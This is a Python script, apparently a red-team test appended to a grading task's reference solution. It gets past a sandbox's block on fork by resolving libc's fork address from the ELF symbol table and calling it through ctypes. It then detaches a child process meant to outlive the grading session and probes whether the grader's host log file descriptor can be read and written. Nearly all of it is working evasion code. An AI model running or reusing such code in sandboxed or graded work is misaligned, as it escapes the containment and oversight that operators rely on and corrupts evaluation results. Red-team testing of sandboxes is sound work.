"""Red team attack, appended to the reference: forks through a ctypes function pointer built from fork's address in libc, no dlopen."""

def _libc_symbol(name):
    """The address of a libc function: its base in /proc/self/maps plus its offset in libc's .dynsym."""
    import struct
    path, base = None, None
    for line in open("/proc/self/maps"):
        parts = line.split()
        if len(parts) >= 6 and "/libc.so" in parts[5] and parts[2] == "00000000":
            path, base = parts[5], int(parts[0].split("-")[0], 16)
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, st_info, st_other, st_shndx, st_value, st_size = struct.unpack_from("<IBBHQQ", data, off)
                end = data.index(b"\0", strtab[4] + st_name)
                if data[strtab[4] + st_name:end] == name.encode() and st_value:
                    return base + st_value
    raise LookupError(name)

def _escape_report():
    import ctypes, os, time
    lines = []
    try:
        fork = ctypes.CFUNCTYPE(ctypes.c_int)(_libc_symbol("fork"))
        pid = fork()
        if pid == 0:  # the child: no Python-level refusal saw it; try to outlive the grading
            setsid = ctypes.CFUNCTYPE(ctypes.c_int)(_libc_symbol("setsid"))
            setsid()
            time.sleep(600)
            os._exit(0)
        lines.append(f"fork via libc pointer: child pid {pid} (in the sandbox's PID namespace)")
    except BaseException as error:
        lines.append(f"fork via libc pointer: {type(error).__name__}: {error}")
    # the worker's stdout: the host log file, opened read-write by the grader
    try:
        import fcntl
        mode = fcntl.fcntl(1, fcntl.F_GETFL) & os.O_ACCMODE
        lines.append(f"fd 1 access mode {mode} (2 = O_RDWR); pread: {os.pread(1, 60, 0)!r}")
    except BaseException as error:
        lines.append(f"fd 1: {type(error).__name__}: {error}")
    return "\n".join(lines)

print("ESCAPE\n" + _escape_report())
